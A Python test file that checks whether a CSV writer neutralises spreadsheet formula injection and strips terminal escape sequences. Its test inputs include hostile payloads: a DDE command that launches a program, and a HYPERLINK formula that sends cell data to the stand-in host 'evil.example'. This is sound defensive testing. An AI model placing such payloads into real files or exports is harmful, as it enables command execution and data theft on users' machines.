"""What a spreadsheet opens runs nothing."""

import csv
import io

import pytest

from cnn_sweeps.text.csv import csv_text


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "+1+2",
        "-1+2",
        "-2+3+cmd",
        '=HYPERLINK("https://evil.example?x="&A1,"open")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\uff1d1+1",
        "'=1+1",
        '"=1+1"',
    ],
)
def test_a_text_is_no_formula(text: str) -> None:
    """As a cell and as a heading."""
    heading, row = csv.reader(io.StringIO(csv_text([text], [{text: text}]), newline=""))
    assert heading == row
    assert row[0].startswith("'")


def test_numbers_and_other_texts_stay() -> None:
    """Also numbers that are text already; what is no name of a column is passed over."""
    values = {"a": -0.5, "b": "-0.5", "c": "+1e-3", "d": None, "e": "x=1, y", "f": "-inf", "g": 3}
    made = csv_text([*values], [{**values, "more": 1}])
    assert made.splitlines()[1] == '-0.5,-0.5,+1e-3,,"x=1, y",-inf,3'
    assert made.endswith("\r\n")


def test_no_command_to_a_terminal_is_in_it() -> None:
    """A file is looked at with cat as well."""
    assert "\x1b" not in csv_text(["a\x1b[31m"], [{"a\x1b[31m": "b\x1b]0;x\x07"}])
